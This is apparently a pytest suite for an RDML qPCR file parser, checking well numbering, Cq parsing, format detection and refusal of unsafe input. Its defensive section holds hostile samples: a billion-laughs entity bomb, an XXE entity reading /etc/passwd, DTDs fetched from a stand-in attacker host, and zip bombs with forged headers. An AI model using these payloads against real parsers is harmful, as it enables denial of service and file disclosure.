"""RDML: documents built here in the RDML 1.0 (StepOne) and 1.3 (RDML-Tools, 384-well) styles,
zipped and bare; well numbering, tasks, undetermined Cq, detection, and the safety rails
(DTDs/entities, zip bombs, element floods, damaged or encrypted archives) → ParseError."""

from __future__ import annotations

import io
import struct
import zipfile
from datetime import UTC, datetime, timedelta

import pytest

from assays.parsers import rdml
from assays.parsers.base import ParseError
from assays.parsers.rdml import RDMLParser, normalise_well, row_letters

parser = RDMLParser()
NS = "http://www.rdml.org"


def _adp(cycles: int) -> str:
    return "".join(
        f"<adp><cyc>{c}.0</cyc><fluor>{0.5 + c / 100:.4f}</fluor></adp>"
        for c in range(1, cycles + 1)
    )


def rdml_10() -> str:
    """RDML 1.0 as StepOne writes it: dyeId as text, "free format", "A1" react ids, the
    cycle count (40.0) as the Cq of an NTC, quantity in the data element."""
    react = """
        <react id="{id}"><sample id="{sample}"/>
          <data><tar id="RNase P"/>{cq}{excl}
            <quantity><value>{dq}</value><unit>cop</unit></quantity>{adp}</data></react>"""
    reacts = [
        ("A1", "NTC", "<cq>40.0</cq>", "", "NaN"),
        ("A2", "pop1", "<cq>28.96287</cq>", "", "2484.3098"),
        ("B01", "STD_1000", "<cq>26.874498</cq>", "", "1000.0"),
        ("B2", "STD_100", "<cq>30.25</cq>", "<excl>pipetting error</excl>", "100.0"),
        ("C1", "pop2", "<cq>-1</cq>", "<excl/>", "NaN"),
    ]
    body = "".join(
        react.format(id=i, sample=s, cq=cq, excl=ex, dq=dq, adp=_adp(40))
        for i, s, cq, ex, dq in reacts
    )
    return f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<rdml xmlns="{NS}" version="1.0">
  <dateMade>2014-09-05T00:29:23.361</dateMade>
  <sample id="NTC"><type>ntc</type></sample>
  <sample id="pop1"><type>unkn</type></sample>
  <sample id="pop2"><type>unkn</type></sample>
  <sample id="STD_1000"><type>std</type>
    <quantity><value>1000.0</value><unit>other</unit></quantity></sample>
  <sample id="STD_100"><type>std</type></sample>
  <target id="RNase P"><type>toi</type><dyeId>FAM</dyeId></target>
  <experiment id="Standard Curve Example">
    <run id="Run001">
      <instrument>Applied Biosystems StepOne™ Instrument</instrument>
      <dataCollectionSoftware><name>StepOne Software</name>
        <version>StepOne™ Software v2.3</version></dataCollectionSoftware>
      <pcrFormat>free format</pcrFormat>
      <runDate>2006-11-10T09:24:39.265</runDate>{body}
    </run>
  </experiment>
</rdml>
"""


def rdml_13() -> str:
    """RDML 1.3 in the RDML-Tools style: prefixed namespace, dye as attribute, numeric react
    ids on a 384-well plate, two runs, per-target sample types, -1 and missing Cq."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<r:rdml xmlns:r="{NS}" version="1.3">
<r:dateMade>2019-10-16T10:04:07</r:dateMade>
<r:dye id="FAM"/><r:dye id="HEX"/>
<r:sample id="EXO-000123"><r:type>unkn</r:type></r:sample>
<r:sample id="calibrator"><r:type targetId="CD63">std</r:type><r:type>unkn</r:type>
  <r:quantity targetId="CD63"><r:value>5e4</r:value><r:unit>cop</r:unit></r:quantity></r:sample>
<r:sample id="water"><r:type>ntc</r:type></r:sample>
<r:sample id="opt"><r:type>opt</r:type></r:sample>
<r:target id="CD63"><r:type>toi</r:type><r:dyeId id="FAM"/></r:target>
<r:target id="CD9"><r:type>ref</r:type><r:dyeId id="HEX"/></r:target>
<r:experiment id="EV markers"><r:description>plate 7</r:description>
<r:run id="run FAM">
  <r:instrument>CFX384</r:instrument>
  <r:dataCollectionSoftware><r:name>CFX Maestro</r:name><r:version>2.3</r:version>
  </r:dataCollectionSoftware>
  <r:runDate>2020-03-28T05:41:13+02:00</r:runDate>
  <r:pcrFormat><r:rows>16</r:rows><r:columns>24</r:columns>
    <r:rowLabel>ABC</r:rowLabel><r:columnLabel>123</r:columnLabel></r:pcrFormat>
  <r:react id="241"><r:sample id="EXO-000123"/>
    <r:data><r:tar id="CD63"/><r:cq>24.5</r:cq>{_adp(45)}</r:data>
    <r:data><r:tar id="CD9"/><r:cq>-1.0</r:cq></r:data></r:react>
  <r:react id="24"><r:sample id="calibrator"/>
    <r:data><r:tar id="CD63"/><r:cq>21.125</r:cq></r:data>
    <r:data><r:tar id="CD9"/><r:cq>19.5</r:cq></r:data></r:react>
  <r:react id="384"><r:sample id="water"/><r:data><r:tar id="CD63"/></r:data></r:react>
  <r:react id="385"><r:sample id="opt"/><r:data><r:tar id="CD63"/><r:cq>30</r:cq></r:data>
  </r:react>
</r:run>
<r:run id="rotor">
  <r:pcrFormat><r:rows>72</r:rows><r:columns>1</r:columns>
    <r:rowLabel>123</r:rowLabel><r:columnLabel>123</r:columnLabel></r:pcrFormat>
  <r:react id="7"><r:sample id="EXO-000123"/><r:data><r:tar id="CD63"/><r:cq>25</r:cq></r:data>
  </r:react>
</r:run>
</r:experiment>
</r:rdml>
"""


def zipped(members: dict[str, str | bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content.encode() if isinstance(content, str) else content)
    return buffer.getvalue()


def _parse(data: bytes, name: str = "run.rdml"):
    return parser.parse(data, name)


def _error(data: bytes, name: str = "run.rdml") -> ParseError:
    with pytest.raises(ParseError) as info:
        parser.parse(data, name)
    assert "internal error" not in info.value.message
    return info.value


# -- RDML 1.0 ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def v10():
    return _parse(zipped({"rdml_data.xml": rdml_10()}))


def test_rdml10_run_metadata(v10):
    assert v10.software_version == "StepOne™ Software v2.3"
    assert v10.instrument == "Applied Biosystems StepOne™ Instrument"
    assert v10.measured_at == datetime(2006, 11, 10, 9, 24, 39, 265000)
    assert v10.run_name == "Run001"
    assert v10.sample_name == ""


def test_rdml10_rows(v10):
    assert [r.well for r in v10.rows] == ["A1", "A2", "B1", "B2", "C1"]
    assert [r.sample_name for r in v10.rows] == ["NTC", "pop1", "STD_1000", "STD_100", "pop2"]
    assert {r.target for r in v10.rows} == {"RNase P"}
    assert {r.reporter for r in v10.rows} == {"FAM"}  # <dyeId>FAM</dyeId>, text in 1.0
    assert [r.task for r in v10.rows] == ["ntc", "unknown", "standard", "standard", "unknown"]
    unknown = v10.rows[1]
    assert (unknown.cq, unknown.undetermined, unknown.flags) == (28.96287, False, ())
    # The software's calculated quantity of an unknown is not reported.
    assert unknown.quantity is None


def test_rdml10_stepone_cycle_count_is_undetermined(v10):
    ntc = v10.rows[0]
    assert ntc.cq is None and ntc.undetermined
    assert ntc.flags == ("cq_at_last_cycle",)
    assert any("last cycle" in w for w in v10.warnings)


def test_rdml10_standard_quantities_and_exclusions(v10):
    std_sample, std_data = v10.rows[2], v10.rows[3]
    assert std_sample.quantity == 1000.0  # from the sample definition
    assert std_data.quantity == 100.0  # sample has none: the data's own quantity
    assert std_data.cq == 30.25
    assert std_data.flags == ("excluded: pipetting error",)
    minus_one = v10.rows[4]
    assert minus_one.cq is None and minus_one.undetermined
    assert minus_one.flags == ("excluded",)


# -- RDML 1.3 ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def v13():
    # A vendor sidecar first, a macOS junk file, and a member not named rdml_data.xml.
    return _parse(
        zipped(
            {
                "instrument_data.xml": "<instrument><name>LC96</name></instrument>",
                "__MACOSX/._EV_markers.xml": b"\x00\x05\x16\x07junk",
                "EV_markers.xml": rdml_13(),
            }
        ),
        "plate 7.rdml",
    )


def test_rdml13_run_metadata(v13):
    assert v13.software_version == "CFX Maestro 2.3"
    assert v13.instrument == "CFX384"
    assert v13.measured_at == datetime(2020, 3, 28, 3, 41, 13, tzinfo=UTC)
    assert v13.measured_at.utcoffset() == timedelta(hours=2)
    assert v13.run_name == "run FAM; rotor"
    assert v13.description == "EV markers: plate 7"


def test_rdml13_numeric_react_ids_use_the_plate_format(v13):
    # 384-well plate counted row-wise: 241 = K1, 24 = A24, 384 = P24; 385 is off the plate
    # and a rotor position is its own number.
    assert [r.well for r in v13.rows] == ["K1", "K1", "A24", "A24", "P24", "385", "7"]
    assert [r.target for r in v13.rows] == ["CD63", "CD9", "CD63", "CD9", "CD63", "CD63", "CD63"]
    assert [r.reporter for r in v13.rows] == ["FAM", "HEX", "FAM", "HEX", "FAM", "FAM", "FAM"]


def test_rdml13_cq_and_undetermined(v13):
    assert [r.cq for r in v13.rows] == [24.5, None, 21.125, 19.5, None, 30.0, 25.0]
    assert [r.undetermined for r in v13.rows] == [False, True, False, False, True, False, False]
    assert all(r.flags == () for r in v13.rows)  # 24.5 < 45 cycles: a real Cq


def test_rdml13_sample_type_per_target(v13):
    # "calibrator" is a standard for CD63 only, and its quantity is CD63's.
    assert [r.task for r in v13.rows] == [
        "unknown",
        "unknown",
        "standard",
        "unknown",
        "ntc",
        "opt",
        "unknown",
    ]
    assert [r.quantity for r in v13.rows] == [None, None, 50000.0, None, None, None, None]


def test_bare_xml_document_is_accepted():
    result = _parse(rdml_13().encode(), "export.xml")
    assert len(result.rows) == 7


def test_bare_xml_in_utf16_with_bom():
    text = rdml_10().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    data = text.encode("utf-16")
    assert parser.detect("export.xml", data[:4096])
    assert len(_parse(data, "export.xml").rows) == 5


def test_stored_member_and_spanning_marker_prefix():
    # CFX Manager 3.0 starts its archive with "PK\x07\x08"; members may be stored.
    data = b"PK\x07\x08" + zipped({"BioRad.xml": rdml_13()}, compression=zipfile.ZIP_STORED)
    assert parser.detect("BioRad.zip", data[:4096])
    assert len(_parse(data, "BioRad.zip").rows) == 7


def test_undefined_sample_and_missing_definitions_warn():
    xml = f"""<rdml xmlns="{NS}" version="1.2"><experiment id="e"><run id="r">
      <react id="B3"><sample id="ghost"/><data><tar id="t"/><cq>20</cq></data></react>
      </run></experiment></rdml>"""
    result = _parse(xml.encode(), "x.xml")
    row = result.rows[0]
    assert (row.well, row.sample_name, row.target, row.task, row.reporter) == (
        "B3",
        "ghost",
        "t",
        "unknown",
        "",
    )
    assert result.warnings == ('react B3: sample "ghost" is not defined',)


def test_definitions_after_the_experiment_still_apply():
    xml = f"""<rdml xmlns="{NS}" version="1.1"><experiment id="e"><run id="r">
      <react id="1"><sample id="s"/><data><tar id="t"/><cq>20</cq></data></react>
      </run></experiment><sample id="s"><type>pos</type></sample>
      <target id="t"><dyeId id="Cy5"/></target></rdml>"""
    row = _parse(xml.encode(), "x.xml").rows[0]
    assert (row.well, row.task, row.reporter) == ("1", "positive", "Cy5")  # no pcrFormat


# -- detection -----------------------------------------------------------------------------


def test_detection():
    spec = zipped({"rdml_data.xml": rdml_10()})
    vendor = zipped({"BioRad_qPCR_melt.xml": rdml_13()})
    xlsx = zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
    assert parser.detect("run.rdml", spec[:4096])
    assert parser.detect("upload.bin", spec[:4096])  # the spec member name
    assert parser.detect("upload.bin", vendor[:4096])  # <rdml> at the start of the member
    assert parser.detect("x.RDML", xlsx[:4096])  # the name says RDML; parse decides
    assert not parser.detect("plate.xlsx", xlsx[:4096])
    assert parser.detect("x.xml", rdml_10().encode()[:4096])
    assert parser.detect("x.xml", b'\xef\xbb\xbf<!-- c --><rdml version="1.4"/>')
    assert not parser.detect("x.xml", b"<?xml version='1.0'?><Experiment/>")
    assert not parser.detect("x.xml", b"<rdmlx/>")
    assert not parser.detect("x.txt", b"NTA Experiment Summary File,\r\n")
    assert not parser.detect("x.fcs", b"FCS3.1    ")
    assert not parser.detect("x", b"")


def test_helpers():
    assert normalise_well("A01") == "A1"
    assert normalise_well(" p24 ") == "P24"
    assert normalise_well("AF048") == "AF48"
    assert normalise_well("well 7") == "well 7"
    assert [row_letters(i) for i in (0, 7, 15, 25, 26, 31)] == ["A", "H", "P", "Z", "AA", "AF"]


# -- what is refused -----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rdml [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<rdml xmlns="http://www.rdml.org" version="1.1"><sample id="&lol9;"><type>unkn</type></sample>
</rdml>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE rdml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rdml xmlns="http://www.rdml.org" version="1.1"><experiment id="e"><run id="r">
<react id="1"><sample id="&xxe;"/><data><tar id="t"/><cq>20</cq></data></react>
</run></experiment></rdml>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rdml SYSTEM "http://attacker.invalid/rdml.dtd">
<rdml xmlns="http://www.rdml.org" version="1.1"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rdml [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<rdml xmlns="http://www.rdml.org" version="1.1"/>"""


@pytest.mark.parametrize(
    "xml",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity"],
)
@pytest.mark.parametrize("container", ["zip", "bare"])
def test_dtds_and_entities_are_refused(xml, container):
    data = zipped({"rdml_data.xml": xml}) if container == "zip" else xml.encode()
    error = _error(data)
    assert "DTD" in error.message and "refused" in error.message
    assert "/etc/passwd" not in error.message and "root:" not in error.message


def test_zip_bomb_by_declared_size(monkeypatch):
    monkeypatch.setattr(rdml, "MAX_MEMBER_BYTES", 64 * 1024)
    bomb = zipped({"rdml_data.xml": f'<rdml xmlns="{NS}" version="1.1">' + " " * 2_000_000})
    assert len(bomb) < 10_000  # two megabytes of blanks compress to a few kilobytes
    assert "unpacks to 2.0 MB, over the 64 KB limit" in _error(bomb).message


def test_zip_bomb_with_a_lying_header_is_cut_off(monkeypatch):
    monkeypatch.setattr(rdml, "MAX_MEMBER_BYTES", 64 * 1024)
    content = f'<rdml xmlns="{NS}" version="1.1">' + " " * 2_000_000 + "</rdml>"
    data = bytearray(zipped({"rdml_data.xml": content}))
    # Rewrite the uncompressed size in both headers to claim 1 KB.
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, local + 22, 1024)
    struct.pack_into("<I", data, central + 24, 1024)
    error = _error(bytes(data))
    assert "damaged" in error.message or "unpacks to more than" in error.message


def test_capped_stream_stops_at_the_limit(monkeypatch):
    monkeypatch.setattr(rdml, "MAX_MEMBER_BYTES", 1000)
    stream = rdml._CappedStream(io.BytesIO(b"x" * 5000), "rdml_data.xml")
    assert len(stream.read(600)) == 600
    with pytest.raises(ParseError, match="unpacks to more than"):
        stream.read(600)


def test_element_flood_is_refused(monkeypatch):
    monkeypatch.setattr(rdml, "MAX_ELEMENTS", 100)
    xml = f'<rdml xmlns="{NS}" version="1.1">' + "<dye id='x'/>" * 200 + "</rdml>"
    assert "XML elements" in _error(zipped({"rdml_data.xml": xml})).message


def test_file_over_max_bytes_is_refused(monkeypatch):
    monkeypatch.setattr(rdml, "MAX_FILE_BYTES", 1000)
    assert "not accepted" in _error(zipped({"rdml_data.xml": rdml_10()})).message
    assert RDMLParser.max_bytes == 50 * 1024 * 1024


def test_encrypted_member_is_refused():
    data = bytearray(zipped({"rdml_data.xml": rdml_10()}))
    # Set the "encrypted" bit of the general purpose flags in both headers.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature) + offset
        struct.pack_into("<H", data, at, struct.unpack_from("<H", data, at)[0] | 1)
    assert "encrypted" in _error(bytes(data)).message


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "empty"),
        (b"PK\x03\x04garbage that is no archive", "not a readable ZIP"),
        (zipped({"notes.txt": "hello"}), "no RDML XML document"),
        (zipped({"other.xml": "<Experiment/>"}), "no RDML XML document"),
        (b"hello, world", "not an RDML file"),
        (b"<?xml version='1.0'?><Experiment/>", "not an RDML file"),
    ],
    ids=["empty", "bad-zip", "no-xml", "other-root", "text", "other-xml"],
)
def test_not_rdml(data, expected):
    assert expected in _error(data).message


def test_a_member_name_starting_with_nul_is_no_rdml_member():
    data = bytearray(zipped({"rdml_data.xml": rdml_10()}))
    data[data.rfind(b"rdml_data.xml")] = 0  # zipfile cuts the name at the NUL: ""
    assert "no RDML XML document" in _error(bytes(data)).message


def test_damaged_member_is_refused():
    data = bytearray(zipped({"rdml_data.xml": rdml_10() * 3}))
    start = data.find(b"rdml_data.xml") + len("rdml_data.xml") + 200
    data[start : start + 40] = bytes(40)
    assert "damaged" in _error(bytes(data)).message


def test_malformed_xml_reports_the_line():
    xml = rdml_10().replace("</run>", "</rum>")
    error = _error(zipped({"rdml_data.xml": xml}))
    assert "not well-formed XML" in error.message
    assert error.line == xml.count("\n", 0, xml.index("</rum>")) + 1


@pytest.mark.parametrize("encoding", ["U-F-8", "shift_jis"])
def test_an_unreadable_declared_encoding_is_an_error(encoding):
    xml = rdml_10().replace('encoding="UTF-8"', f'encoding="{encoding}"')
    error = _error(zipped({"rdml_data.xml": xml}))
    assert "cannot be decoded" in error.message and error.line == 1


def test_no_reaction_data_is_an_error():
    xml = f'<rdml xmlns="{NS}" version="1.4"><sample id="s"><type>unkn</type></sample></rdml>'
    assert "no qPCR reaction data" in _error(xml.encode(), "x.xml").message


def test_a_cq_that_is_not_a_number_is_an_error():
    xml = rdml_10().replace("<cq>28.96287</cq>", "<cq>twenty-nine</cq>")
    error = _error(zipped({"rdml_data.xml": xml}))
    assert "react A2" in error.message and "twenty-nine" in error.message


def test_a_comment_mentioning_rdml_is_not_an_rdml_root():
    xml = "<!-- <rdml> -->\n<Experiment/>"
    assert "no RDML XML document" in _error(zipped({"rdml_data.xml": xml})).message


def test_a_run_date_that_is_not_iso():
    xml = rdml_13().replace("2020-03-28T05:41:13+02:00", "28.03.2020")
    result = _parse(xml.encode(), "x.xml")
    assert result.measured_at is None
    assert "runDate '28.03.2020' is not an ISO date" in result.warnings
